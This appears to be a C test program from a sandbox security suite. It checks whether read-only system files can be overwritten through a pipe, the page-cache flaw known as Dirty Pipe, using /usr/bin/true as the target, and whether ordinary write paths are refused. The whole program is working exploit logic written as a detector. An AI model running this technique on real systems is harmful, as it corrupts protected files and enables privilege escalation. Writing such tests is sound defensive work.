// Writes into pages of the system's files by way of a pipe.
// gets: all
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/uio.h>

#include "attack.h"

int main() {
  int ends[2];
  Quietly(pipe(ends));
  // A pipe whose buffers were used before, as flaws of the kernel want it.
  char byte = 'x';
  for (int i = 0; i < 65536; ++i) Quietly(write(ends[1], &byte, 1));
  for (int i = 0; i < 65536; ++i) Quietly(read(ends[0], &byte, 1));
  const int file = open("/usr/bin/true", O_RDONLY);
  char before[4096], after[4096];
  Quietly(pread(file, before, sizeof before, 0));
  off64_t from = 1;
  Quietly(splice(file, &from, ends[1], nullptr, 1, 0));
  Quietly(write(ends[1], "marked", 6));
  void* map = mmap(nullptr, 4096, PROT_READ, MAP_SHARED, file, 0);
  iovec page = {map, 4096};
  Quietly(vmsplice(ends[1], &page, 1, SPLICE_F_GIFT));
  Quietly(pread(file, after, sizeof after, 0));
  if (memcmp(before, after, sizeof before) != 0) Breach("a file of the system");
  Refused(open("/usr/bin/true", O_RDWR), "open to write");
  Refused(mprotect(map, 4096, PROT_READ | PROT_WRITE), "write to a map");
  Refused(utimensat(AT_FDCWD, "/usr/bin/true", nullptr, 0), "times");
  close(file);
  Work();
}
